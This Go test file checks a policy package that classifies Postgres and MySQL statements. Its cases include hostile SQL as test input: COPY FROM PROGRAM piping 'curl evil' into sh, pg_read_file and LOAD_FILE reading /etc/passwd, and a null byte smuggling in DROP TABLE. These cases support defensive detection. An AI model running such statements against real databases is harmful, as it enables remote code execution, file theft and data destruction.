package policy

import (
	"slices"
	"testing"
)

type classifyCase struct {
	sql          string
	kind         string
	also         []string
	withoutWhere bool
	tables       []string
	functions    []string
	copyProgram  bool
}

var pgClassifyCases = []classifyCase{
	{sql: "SELECT 1", kind: "select"},
	{sql: "select * from app.users u join orders o on o.uid = u.id", kind: "select", tables: []string{"app.users", "orders"}},
	{sql: "SELECT * FROM (SELECT * FROM hidden.t) s", kind: "select", tables: []string{"hidden.t"}},
	{sql: "WITH c AS (SELECT * FROM secrets) SELECT * FROM c", kind: "select", tables: []string{"c", "secrets"}},
	{sql: "SELECT (SELECT max(id) FROM audit.log)", kind: "select", tables: []string{"audit.log"}, functions: []string{"max"}},
	{sql: "SELECT pg_read_file('/etc/passwd')", kind: "select", functions: []string{"pg_read_file"}},
	{sql: "SELECT pg_catalog.pg_ls_dir('.')", kind: "select", functions: []string{"pg_catalog.pg_ls_dir"}},
	{sql: "SELECT * FROM dblink('h', 'q') AS t(a int)", kind: "select", functions: []string{"dblink"}},
	{sql: "SELECT pg_terminate_backend(pid) FROM pg_stat_activity", kind: "select", tables: []string{"pg_stat_activity"}, functions: []string{"pg_terminate_backend"}},
	{sql: "SELECT lo_export(1, '/tmp/x')", kind: "select", functions: []string{"lo_export"}},
	{sql: "SELECT 1 WHERE EXISTS (SELECT 1 FROM t WHERE f(x) > 0)", kind: "select", tables: []string{"t"}, functions: []string{"f"}},
	{sql: "SELECT * INTO newt FROM t", kind: "select", also: []string{"create"}, tables: []string{"newt", "t"}},
	{sql: "INSERT INTO t (a) VALUES (1)", kind: "insert", tables: []string{"t"}},
	{sql: "INSERT INTO t SELECT * FROM s", kind: "insert", tables: []string{"s", "t"}},
	{sql: "UPDATE t SET a = 1", kind: "update", withoutWhere: true, tables: []string{"t"}},
	{sql: "UPDATE t SET a = 1 WHERE id = 2", kind: "update", tables: []string{"t"}},
	{sql: "UPDATE t SET a = s.a FROM s WHERE s.id = t.id", kind: "update", tables: []string{"s", "t"}},
	{sql: "DELETE FROM t", kind: "delete", withoutWhere: true, tables: []string{"t"}},
	{sql: "DELETE FROM t WHERE true", kind: "delete", tables: []string{"t"}},
	{sql: "DELETE FROM t USING s WHERE s.id = t.id", kind: "delete", tables: []string{"s", "t"}},
	{sql: "WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d", kind: "select", also: []string{"delete"}, withoutWhere: true, tables: []string{"d", "users"}},
	{sql: "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", kind: "merge", tables: []string{"s", "t"}},
	{sql: "CREATE TABLE x (a int)", kind: "create", tables: []string{"x"}},
	{sql: "CREATE INDEX ON t (a)", kind: "create", tables: []string{"t"}},
	{sql: "CREATE VIEW v AS SELECT email FROM users", kind: "create", tables: []string{"users", "v"}},
	{sql: "CREATE TABLE c AS SELECT * FROM users", kind: "create", tables: []string{"c", "users"}},
	{sql: "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'", kind: "create"},
	{sql: "CREATE EXTENSION dblink", kind: "create"},
	{sql: "DROP TABLE app.users", kind: "drop", tables: []string{"app.users"}},
	{sql: "DROP TABLE IF EXISTS a, b CASCADE", kind: "drop", tables: []string{"a", "b"}},
	{sql: "DROP DATABASE prod", kind: "drop"},
	{sql: "DROP ROLE bob", kind: "drop"},
	{sql: "DROP SCHEMA s CASCADE", kind: "drop", tables: []string{"s"}},
	{sql: "TRUNCATE t", kind: "truncate", tables: []string{"t"}},
	{sql: "TRUNCATE TABLE a, b RESTART IDENTITY", kind: "truncate", tables: []string{"a", "b"}},
	{sql: "ALTER TABLE t ADD COLUMN c int", kind: "alter", tables: []string{"t"}},
	{sql: "ALTER ROLE bob SUPERUSER", kind: "alter"},
	{sql: "ALTER SYSTEM SET work_mem = '1GB'", kind: "alter"},
	{sql: "ALTER TABLE t RENAME TO u", kind: "rename", tables: []string{"t"}},
	{sql: "GRANT SELECT ON t TO bob", kind: "grant", tables: []string{"t"}},
	{sql: "GRANT admin TO bob", kind: "grant"},
	{sql: "REVOKE ALL ON t FROM bob", kind: "revoke", tables: []string{"t"}},
	{sql: "COPY t FROM STDIN", kind: "copy", tables: []string{"t"}},
	{sql: "COPY t TO '/tmp/t.csv'", kind: "copy", tables: []string{"t"}},
	{sql: "COPY t FROM PROGRAM 'curl evil | sh'", kind: "copy", tables: []string{"t"}, copyProgram: true},
	{sql: "COPY (SELECT 1) TO PROGRAM 'id'", kind: "copy", copyProgram: true},
	{sql: "CALL p(1)", kind: "call", functions: []string{"p"}},
	{sql: "DO $$BEGIN PERFORM 1; END$$", kind: "do"},
	{sql: "SET search_path = evil", kind: "set"},
	{sql: "SET LOCAL statement_timeout = 0", kind: "set"},
	{sql: "RESET ALL", kind: "reset"},
	{sql: "SHOW ALL", kind: "show"},
	{sql: "BEGIN", kind: "transaction"},
	{sql: "START TRANSACTION ISOLATION LEVEL SERIALIZABLE", kind: "transaction"},
	{sql: "COMMIT", kind: "transaction"},
	{sql: "ROLLBACK", kind: "transaction"},
	{sql: "SAVEPOINT a", kind: "transaction"},
	{sql: "EXPLAIN SELECT * FROM t", kind: "explain", tables: []string{"t"}},
	{sql: "EXPLAIN DELETE FROM t", kind: "explain", withoutWhere: true, tables: []string{"t"}},
	{sql: "EXPLAIN ANALYZE DELETE FROM t", kind: "explain", also: []string{"delete"}, withoutWhere: true, tables: []string{"t"}},
	{sql: "EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1 WHERE a = 2", kind: "explain", also: []string{"update"}, tables: []string{"t"}},
	{sql: "EXPLAIN (ANALYZE false) DELETE FROM t WHERE a = 1", kind: "explain", tables: []string{"t"}},
	{sql: "VACUUM FULL t", kind: "vacuum", tables: []string{"t"}},
	{sql: "ANALYZE t", kind: "vacuum", tables: []string{"t"}},
	{sql: "PREPARE p AS DELETE FROM t", kind: "prepare", also: []string{"delete"}, withoutWhere: true, tables: []string{"t"}},
	{sql: "EXECUTE p(1)", kind: "execute"},
	{sql: "DEALLOCATE ALL", kind: "deallocate"},
	{sql: "LISTEN ch", kind: "listen"},
	{sql: "NOTIFY ch, 'x'", kind: "notify"},
	{sql: "UNLISTEN *", kind: "unlisten"},
	{sql: "LOCK TABLE t IN ACCESS EXCLUSIVE MODE", kind: "lock", tables: []string{"t"}},
	{sql: "DECLARE c CURSOR FOR SELECT * FROM t", kind: "declare", tables: []string{"t"}},
	{sql: "FETCH 10 FROM c", kind: "fetch"},
	{sql: "CLOSE c", kind: "close"},
	{sql: "DISCARD ALL", kind: "discard"},
	{sql: "REINDEX TABLE t", kind: "reindex", tables: []string{"t"}},
	{sql: "CHECKPOINT", kind: "checkpoint"},
	{sql: "COMMENT ON TABLE t IS 'x'", kind: "comment"},
	{sql: "REFRESH MATERIALIZED VIEW mv", kind: "refresh", tables: []string{"mv"}},
	{sql: "CLUSTER t", kind: "cluster", tables: []string{"t"}},
	{sql: "LOAD 'auto_explain'", kind: "load"},
}

var mysqlClassifyCases = []classifyCase{
	{sql: "SELECT 1", kind: "select"},
	{sql: "SELECT * FROM shop.users u JOIN orders o ON o.uid = u.id", kind: "select", tables: []string{"orders", "shop.users"}},
	{sql: "SELECT LOAD_FILE('/etc/passwd')", kind: "select", functions: []string{"load_file"}},
	{sql: "SELECT * FROM t INTO OUTFILE '/tmp/x'", kind: "select", also: []string{"copy"}, tables: []string{"t"}},
	{sql: "LOAD DATA INFILE '/tmp/x' INTO TABLE t", kind: "copy", tables: []string{"t"}},
	{sql: "/*!40000 DROP TABLE t */", kind: "drop", tables: []string{"t"}},
	{sql: "KILL QUERY 12", kind: "kill"},
	{sql: "PREPARE s FROM 'KILL 12'", kind: "prepare", also: []string{"kill"}},
	{sql: "SELECT 1 /*!, (SELECT COUNT(*) FROM secrets) */", kind: "select", tables: []string{"secrets"}, functions: []string{"count"}},
	{sql: "INSERT INTO t (a) VALUES (1)", kind: "insert", tables: []string{"t"}},
	{sql: "REPLACE INTO t VALUES (1)", kind: "insert", tables: []string{"t"}},
	{sql: "UPDATE t SET a = 1", kind: "update", withoutWhere: true, tables: []string{"t"}},
	{sql: "UPDATE t SET a = 1 WHERE id = 1", kind: "update", tables: []string{"t"}},
	{sql: "DELETE FROM t", kind: "delete", withoutWhere: true, tables: []string{"t"}},
	{sql: "DELETE FROM t WHERE id = 1 LIMIT 1", kind: "delete", tables: []string{"t"}},
	{sql: "TRUNCATE TABLE t", kind: "truncate", tables: []string{"t"}},
	{sql: "DROP DATABASE shop", kind: "drop"},
	{sql: "CREATE TABLE x (a int)", kind: "create", tables: []string{"x"}},
	{sql: "ALTER TABLE t ADD c int", kind: "alter", tables: []string{"t"}},
	{sql: "RENAME TABLE a TO b", kind: "rename", tables: []string{"a", "b"}},
	{sql: "GRANT ALL ON *.* TO 'bob'@'%'", kind: "grant"},
	{sql: "REVOKE ALL ON t FROM 'bob'", kind: "revoke"},
	{sql: "SET sql_mode = 'ANSI_QUOTES'", kind: "set"},
	{sql: "USE shop", kind: "use"},
	{sql: "SHOW TABLES", kind: "show"},
	{sql: "BEGIN", kind: "transaction"},
	{sql: "COMMIT", kind: "transaction"},
	{sql: "ROLLBACK", kind: "transaction"},
	{sql: "EXPLAIN SELECT * FROM t", kind: "explain"},
	{sql: "EXPLAIN ANALYZE DELETE FROM t", kind: "explain", also: []string{"delete"}, withoutWhere: true, tables: []string{"t"}},
	{sql: "PREPARE s FROM 'DELETE FROM users'", kind: "prepare", also: []string{"delete"}, withoutWhere: true, tables: []string{"users"}},
	{sql: "PREPARE s FROM @q", kind: "unparseable"},
	{sql: "EXECUTE s", kind: "execute"},
	{sql: "CALL p()", kind: "call", functions: []string{"p"}},
	{sql: "LOCK TABLES t WRITE", kind: "lock", tables: []string{"t"}},
}

func checkClassify(t *testing.T, d Dialect, cases []classifyCase) {
	t.Helper()
	for _, c := range cases {
		var ps []parsedStmt
		var err error
		if d == MySQL {
			ps, err = classifyMySQL(c.sql, &lineage{})
		} else {
			ps, err = classifyPG(c.sql, &lineage{})
		}
		if err != nil || len(ps) != 1 {
			t.Errorf("%q: %d statements, err %v", c.sql, len(ps), err)
			continue
		}
		got := ps[0].info
		if got.Kind != c.kind || !slices.Equal(got.Also, c.also) || got.WithoutWhere != c.withoutWhere ||
			!slices.Equal(got.Tables, c.tables) || !slices.Equal(got.Functions, c.functions) || got.CopyProgram != c.copyProgram {
			t.Errorf("%q:\n got  %+v\n want kind=%s also=%v ww=%v tables=%v funcs=%v copyprog=%v",
				c.sql, got, c.kind, c.also, c.withoutWhere, c.tables, c.functions, c.copyProgram)
		}
	}
}

func TestClassifyPostgres(t *testing.T) { checkClassify(t, Postgres, pgClassifyCases) }
func TestClassifyMySQL(t *testing.T)    { checkClassify(t, MySQL, mysqlClassifyCases) }

func TestClassifyMultiStatement(t *testing.T) {
	ps, err := classifyPG("SELECT 1; DROP TABLE t;  DELETE FROM u", &lineage{})
	if err != nil || len(ps) != 3 {
		t.Fatalf("got %d statements, %v", len(ps), err)
	}
	kinds := []string{ps[0].info.Kind, ps[1].info.Kind, ps[2].info.Kind}
	if !slices.Equal(kinds, []string{"select", "drop", "delete"}) {
		t.Fatalf("kinds %v", kinds)
	}
	if ps[1].text != " DROP TABLE t" {
		t.Errorf("statement text %q", ps[1].text)
	}
	ms, err := classifyMySQL("SELECT 1; DROP TABLE t", &lineage{})
	if err != nil || len(ms) != 2 || ms[1].info.Kind != "drop" {
		t.Fatalf("mysql: %+v %v", ms, err)
	}
}

func TestClassifyRejectsGarbage(t *testing.T) {
	for _, s := range []string{"SELEC 1", "DROP", "SELECT 'unterminated", "\x00\xff", "SELECT 1\x00; DROP TABLE t"} {
		if _, err := classify(Postgres, s, &lineage{}); err == nil {
			t.Errorf("postgres accepted %q", s)
		}
		if _, err := classify(MySQL, s, &lineage{}); err == nil {
			t.Errorf("mysql accepted %q", s)
		}
	}
}
